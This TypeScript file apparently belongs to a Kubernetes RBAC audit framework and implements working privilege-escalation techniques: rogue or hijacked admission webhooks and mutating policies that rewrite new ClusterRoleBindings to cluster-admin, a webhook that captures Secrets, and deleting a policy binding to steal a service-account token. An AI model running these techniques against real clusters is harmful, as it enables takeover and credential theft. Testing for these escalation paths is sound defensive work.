/** Ways from a right on what decides over others' requests to more. */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { serveLoopback, type LoopbackServer } from '../../../tools/loopback-server';
import { Refused, type Attacker } from './attacker';
import { ADMISSION_GROUP, RBAC_GROUP, core, defineTechniques, on } from './technique';
import { bindingOf, STRONG, podSpec, type World } from './world';

const ADMISSION = `/apis/${ADMISSION_GROUP}/v1`;
const BINDINGS = `/apis/${RBAC_GROUP}/v1/clusterrolebindings`;
const WEBHOOKS = 'Kubernetes, RBAC good practices: control admission webhooks, T1546, CIS 5.1.12';
const POLICIES = 'Kubernetes, RBAC good practices: admission policies, T1562.001, CIS 5.1.12';

/** A server of the attacker that is asked about requests; `judge` gets the object and says what to change. */
async function webhook(judge: (object: unknown) => object[] | undefined): Promise<LoopbackServer> {
  return serveLoopback((request: IncomingMessage, answer: ServerResponse) => {
    let text = '';
    request.on('data', (part: Buffer) => (text += part.toString()));
    request.on('end', () => {
      const review = JSON.parse(text) as { request: { uid: string; object: unknown } };
      const patch = judge(review.request.object);
      const patched = patch && {
        patchType: 'JSONPatch',
        patch: Buffer.from(JSON.stringify(patch)).toString('base64'),
      };
      const response = { uid: review.request.uid, allowed: true, ...patched };
      answer.writeHead(200, { 'content-type': 'application/json' });
      answer.end(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response }));
    });
  });
}

function configuration(me: Attacker, url: string, ca: string, group: string, resource: string): object {
  const rules = [{ apiGroups: [group], apiVersions: ['v1'], operations: ['CREATE'], resources: [resource] }];
  const clientConfig = { url, caBundle: Buffer.from(ca).toString('base64') };
  return {
    metadata: { name: me.id },
    webhooks: [
      {
        ...{ name: 'webhook.attacker.example', rules, clientConfig },
        ...{
          failurePolicy: 'Ignore',
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
          timeoutSeconds: 5,
        },
      },
    ],
  };
}

/** What a webhook makes of a binding that has the attacker's mark. */
function taken(me: Attacker): (object: unknown) => object[] | undefined {
  return (object) => {
    if (!JSON.stringify(object).includes(`${me.id}-harmless`)) return undefined;
    return [
      { op: 'replace', path: '/roleRef/name', value: 'cluster-admin' },
      { op: 'add', path: '/subjects', value: [me.subject] },
    ];
  };
}

/** An administrator makes harmless bindings, until one has become something else. */
async function bindsUnaware(me: Attacker, world: World): Promise<boolean> {
  let counter = 0;
  await world.eventually(async () => {
    const harmless = bindingOf(me, `${me.id}-harmless-${++counter}`, 'ClusterRole', 'view');
    const path = await world.exists(me, BINDINGS, { ...harmless, subjects: [] });
    type Binding = { subjects?: object[] };
    return ((await world.admin<Binding>('GET', path)).subjects ?? []).length > 0;
  });
  return world.becomesAdministrator(me);
}

async function serving(
  judge: (object: unknown) => object[] | undefined,
  use: (server: LoopbackServer) => Promise<boolean>,
): Promise<boolean> {
  const server = await webhook(judge);
  try {
    return await use(server);
  } finally {
    await server.close();
  }
}

export const ADMISSION_TECHNIQUES = defineTechniques(
  {
    name: 'changes what others write, by a webhook',
    source: WEBHOOKS,
    needs: { cluster: [on(ADMISSION_GROUP, 'mutatingwebhookconfigurations', 'create')] },
    attempt: (me, world) =>
      serving(taken(me), async ({ url, ca }) => {
        const body = configuration(me, url, ca, RBAC_GROUP, 'clusterrolebindings');
        await me.must('POST', `${ADMISSION}/mutatingwebhookconfigurations`, body);
        return bindsUnaware(me, world);
      }),
  },
  {
    name: 'turns a webhook that is there to itself',
    source: WEBHOOKS,
    needs: { cluster: [on(ADMISSION_GROUP, 'mutatingwebhookconfigurations', 'patch')] },
    attempt: (me, world) =>
      serving(taken(me), async ({ url, ca }) => {
        const nobody = configuration(me, 'https://127.0.0.1:1', ca, RBAC_GROUP, 'clusterrolebindings');
        const path = await world.exists(me, `${ADMISSION}/mutatingwebhookconfigurations`, nobody);
        const place = '/webhooks/0/clientConfig/url';
        await me.patch(path, [{ op: 'replace', path: place, value: url }], 'application/json-patch+json');
        return bindsUnaware(me, world);
      }),
  },
  {
    name: 'reads the Secrets that others write, by a webhook',
    source: WEBHOOKS,
    needs: { cluster: [on(ADMISSION_GROUP, 'validatingwebhookconfigurations', 'create')] },
    attempt: (me, world, target) => {
      let seen = false;
      const judge = (object: unknown): undefined => {
        seen ||= world.opens(JSON.stringify(object));
      };
      return serving(judge, async ({ url, ca }) => {
        const body = configuration(me, url, ca, '', 'secrets');
        await me.must('POST', `${ADMISSION}/validatingwebhookconfigurations`, body);
        let counter = 0;
        return world.eventually(async () => {
          const metadata = { name: `${me.id}-${++counter}` };
          const secret = { metadata, stringData: { value: world.treasure } };
          await world.exists(me, `/api/v1/namespaces/${target}/secrets`, secret);
          return seen;
        });
      });
    },
  },
  {
    name: 'changes what others write, by a policy',
    source: POLICIES,
    needs: {
      cluster: [
        on(ADMISSION_GROUP, 'mutatingadmissionpolicies', 'create'),
        on(ADMISSION_GROUP, 'mutatingadmissionpolicybindings', 'create'),
      ],
    },
    attempt: async (me, world) => {
      const rules = [
        {
          ...{ apiGroups: [RBAC_GROUP], apiVersions: ['v1'], resources: ['clusterrolebindings'] },
          operations: ['CREATE'],
        },
      ];
      const expression = `[
        JSONPatch{op: "replace", path: "/roleRef/name", value: "cluster-admin"},
        JSONPatch{op: "add", path: "/subjects", value: [{"apiGroup": "${RBAC_GROUP}", "kind": "User", "name": "${me.user}"}]}
      ]`;
      const spec = {
        matchConstraints: { resourceRules: rules },
        matchConditions: [
          { name: 'mine', expression: `object.metadata.name.startsWith("${me.id}-harmless")` },
        ],
        ...{ reinvocationPolicy: 'Never', failurePolicy: 'Ignore' },
        mutations: [{ patchType: 'JSONPatch', jsonPatch: { expression } }],
      };
      const metadata = { name: me.id };
      await me.must('POST', `${ADMISSION}/mutatingadmissionpolicies`, { metadata, spec });
      const binding = { metadata, spec: { policyName: me.id } };
      await me.must('POST', `${ADMISSION}/mutatingadmissionpolicybindings`, binding);
      return bindsUnaware(me, world);
    },
  },
  {
    name: 'takes away the binding of a policy that stands in its way',
    source: POLICIES,
    needs: {
      cluster: [on(ADMISSION_GROUP, 'validatingadmissionpolicybindings', 'delete')],
      target: [core('pods', 'create')],
    },
    attempt: async (me, world, target) => {
      const rules = [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }];
      const expression = `!object.metadata.name.startsWith("${me.id}") || object.spec.serviceAccountName != "${STRONG}"`;
      const policy = { matchConstraints: { resourceRules: rules }, validations: [{ expression }] };
      const metadata = { name: me.id };
      await world.exists(me, `${ADMISSION}/validatingadmissionpolicies`, { metadata, spec: policy });
      const binding = { metadata, spec: { policyName: me.id, validationActions: ['Deny'] } };
      const path = await world.exists(me, `${ADMISSION}/validatingadmissionpolicybindings`, binding);
      const pods = `/api/v1/namespaces/${target}/pods`;
      const body = {
        metadata: { name: me.id, labels: { app: me.id } },
        spec: podSpec({ serviceAccountName: STRONG }),
      };
      const refusedByPolicy = async () => {
        const { status, body: text } = await world.own.api('POST', `${pods}?dryRun=All`, body);
        return status === 422 && text.includes('ValidatingAdmissionPolicy');
      };
      if (!(await world.eventually(refusedByPolicy))) throw new Error('the policy is not in force');
      await me.must('DELETE', path);
      await world.eventually(async () => {
        const answer = await me.send('POST', pods, body);
        if (answer.status === 403) throw new Refused(`POST ${pods}`, answer.status, answer.body);
        return answer.status === 201;
      });
      const { token } = await world.foundIn(target, me.id);
      return token !== undefined && world.becomesAdministrator(me.bearing(token));
    },
  },
);
